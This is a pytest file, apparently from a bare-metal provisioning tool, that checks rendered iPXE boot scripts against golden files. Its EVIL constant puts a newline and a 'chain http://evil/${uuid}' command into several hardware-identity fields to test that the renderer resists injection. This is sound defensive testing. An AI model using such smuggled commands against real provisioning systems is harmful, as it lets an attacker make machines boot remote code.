"""Boot scripts against golden files; regenerate one by writing what the test prints."""

from __future__ import annotations

from pathlib import Path

import pytest

from rackwright.render.ipxe import RamOs, first_script, script
from rackwright.values.boot import BootAnswer, BootRequest, Boots, Firmware
from rackwright.values.ids import Mac

GOLDEN = Path(__file__).parent.parent / "golden"
URL = "http://10.77.0.1:8080"
EVIL = "x\nchain http://evil/${uuid}"


def asked(firmware: Firmware) -> BootRequest:
    return BootRequest(
        Mac("52:54:00:aa:bb:cc"),
        "10.77.0.101",
        firmware,
        serial=EVIL,
        uuid=EVIL,
        vendor=EVIL,
        model=EVIL,
        asset_tag=EVIL,
    )


@pytest.mark.parametrize(
    ("name", "answer", "firmware", "shell"),
    [
        ("ipxe-ram-os", BootAnswer(Boots.RAM_OS, "boot_starting"), Firmware.BIOS, False),
        ("ipxe-ram-os", BootAnswer(Boots.RAM_OS, "boot_starting"), Firmware.UEFI, False),
        ("ipxe-ram-os-shell", BootAnswer(Boots.RAM_OS, "boot_discover"), Firmware.BIOS, True),
        ("ipxe-disk-bios", BootAnswer(Boots.DISK, "boot_done", "1A2B-3C4D"), Firmware.BIOS, False),
        ("ipxe-disk-uefi", BootAnswer(Boots.DISK, "boot_done", "1A2B-3C4D"), Firmware.UEFI, False),
        ("ipxe-disk-uefi-unknown", BootAnswer(Boots.DISK, "boot_unknown"), Firmware.UEFI, False),
    ],
)
def test_every_answer_is_its_golden_script(name: str, answer: BootAnswer, firmware: Firmware, shell: bool) -> None:
    text = script(answer, asked(firmware), RamOs(URL, "ttyS0,115200n8", shell))
    assert text == (GOLDEN / f"{name}.txt").read_text()


def test_the_first_script_is_its_golden_script() -> None:
    assert first_script(URL) == (GOLDEN / "ipxe-first.txt").read_text()
